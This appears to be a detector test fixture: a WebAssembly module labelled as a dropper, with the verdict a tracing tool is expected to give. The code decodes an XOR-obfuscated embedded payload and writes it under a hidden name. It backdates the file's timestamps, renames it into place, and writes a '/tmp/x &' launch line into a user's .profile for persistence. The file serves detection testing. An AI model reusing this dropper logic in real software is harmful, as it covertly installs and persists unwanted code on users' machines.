;; RUN: spoor trace % --json
;; WHAT: Dropper: decodes an embedded program with a rolling key, writes it under a hidden name, sets its date
;;   back and renames it into place.
;; EXPECT: verdict=MALICIOUS|SUSPICIOUS family=dropper rule=load-code/dropper status=exited file=/tmp/x:created
(module
  (import "wasi_snapshot_preview1" "path_open" (func $path_open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_rename" (func $path_rename (param i32 i32 i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_create_directory" (func $path_create_directory (param i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "path_filestat_set_times" (func $path_filestat_set_times (param i32 i32 i32 i32 i64 i64 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_write" (func $fd_write (param i32 i32 i32 i32) (result i32)))
  (import "wasi_snapshot_preview1" "fd_close" (func $fd_close (param i32) (result i32)))
  (import "wasi_snapshot_preview1" "proc_exit" (func $proc_exit (param i32)))
  (memory (export "memory") 1)
  (func $open (param $path i32) (param $len i32) (param $flags i32) (result i32)
    (if (result i32)
      (call $path_open (i32.const 3) (i32.const 1) (local.get $path) (local.get $len) (local.get $flags)
        (i64.const 0x604056) (i64.const 0x604056) (i32.const 0) (i32.const 12))
      (then (i32.const -1))
      (else (i32.load (i32.const 12)))))
  (func $write (param $fd i32) (param $from i32) (param $len i32)
    (i32.store (i32.const 0) (local.get $from))
    (i32.store (i32.const 4) (local.get $len))
    (drop (call $fd_write (local.get $fd) (i32.const 0) (i32.const 1) (i32.const 8))))
  ;; Rolling XOR: the key is stirred after each byte. A check sum guards against a wrong key.
  (func $decode (param $from i32) (param $to i32) (param $n i32) (result i32) (local $key i32) (local $b i32) (local $sum i32)
    (local.set $key (i32.const 0x1d872b41))
    (loop $byte
      (local.set $b (i32.and (i32.xor (i32.load8_u (local.get $from)) (i32.shr_u (local.get $key) (i32.const 24))) (i32.const 255)))
      (i32.store8 (local.get $to) (local.get $b))
      (local.set $sum (i32.add (i32.rotl (local.get $sum) (i32.const 3)) (local.get $b)))
      (local.set $key (i32.add (i32.mul (local.get $key) (i32.const 1664525)) (i32.const 1013904223)))
      (local.set $from (i32.add (local.get $from) (i32.const 1)))
      (local.set $to (i32.add (local.get $to) (i32.const 1)))
      (br_if $byte (local.tee $n (i32.sub (local.get $n) (i32.const 1)))))
    (local.get $sum))
  (func $place (local $fd i32)
    (drop (call $path_create_directory (i32.const 3) (i32.const 512) (i32.const 10)))
    (local.set $fd (call $open (i32.const 522) (i32.const 18) (i32.const 9)))
    (if (i32.lt_s (local.get $fd) (i32.const 0)) (then (call $proc_exit (i32.const 2))))
    (call $write (local.get $fd) (i32.const 8192) (i32.const 293))
    (drop (call $fd_close (local.get $fd)))
    (drop (call $path_filestat_set_times (i32.const 3) (i32.const 0) (i32.const 522) (i32.const 18)
      (i64.const 1262304000000000000) (i64.const 1262304000000000000) (i32.const 5)))
    (drop (call $path_rename (i32.const 3) (i32.const 522) (i32.const 18) (i32.const 3) (i32.const 540) (i32.const 5))))
  (func (export "_start")
    (if (i32.ne (call $decode (i32.const 4096) (i32.const 8192) (i32.const 293)) (i32.const 2158713156))
      (then (call $proc_exit (i32.const 1))))
    (call $place)
    (call $write (call $open (i32.const 545) (i32.const 18) (i32.const 1)) (i32.const 563) (i32.const 9)))
  (data (i32.const 4096)
    "\62\95\ea\4b\15\9d\33\74\02\07\fb\0e\82\19\1b\2a\12\e3\8a\a3\92\61\64\0e\25\bf\11\65\bb\0e\c4\cf"
    "\5b\8e\8b\09\4e\9d\2d\c7\f2\93\3e\a8\40\ac\db\9b\8e\e6\51\a6\71\d9\c9\82\da\63\71\99\0f\9f\b4\cf"
    "\35\d7\a9\36\4e\12\3c\c5\e6\20\37\94\5d\f9\e8\f9\6b\78\da\73\08\b9\6e\8c\99\c1\38\26\2d\35\f7\1f"
    "\a2\2d\a2\ea\b4\9e\a6\cc\34\12\68\0a\e2\bf\63\e7\86\a4\8b\4f\8b\f8\6b\31\4c\ca\b4\62\bf\0b\91\c5"
    "\1a\b9\19\07\23\56\f4\dc\55\7d\d9\41\3f\d4\d6\82\91\3b\58\37\ce\09\e7\21\70\c7\74\2c\4a\db\96\4c"
    "\79\77\f1\50\92\0d\6d\c1\6d\d6\7a\72\2d\c6\b3\52\23\8c\bf\b9\a8\cf\2d\22\b5\e4\42\cd\29\00\4b\5d"
    "\f5\3e\62\e9\ea\8a\5c\18\be\ca\b8\38\08\6c\5d\d2\4c\68\52\36\c2\c9\4b\61\16\92\d5\1d\f3\4a\fe\bc"
    "\04\3b\b0\e9\67\93\55\5c\48\81\0c\db\0a\06\88\9c\ff\91\94\b7\28\9a\55\ec\b0\4e\07\9d\f1\63\07\cf"
    "\dc\48\27\ad\6e\e2\b0\45\c6\4d\d1\3e\e5\e9\de\e6\31\c5\6a\cc\57\32\27\bf\a3\42\d7\92\7e\5b\e1\5d"
    "\94\47\6e\c8\9d")
  (data (i32.const 512)
    "tmp/.cache"
    "tmp/.cache/.x.part"
    "tmp/x"
    "home/user/.profile"
    "/tmp/x &\n")
)
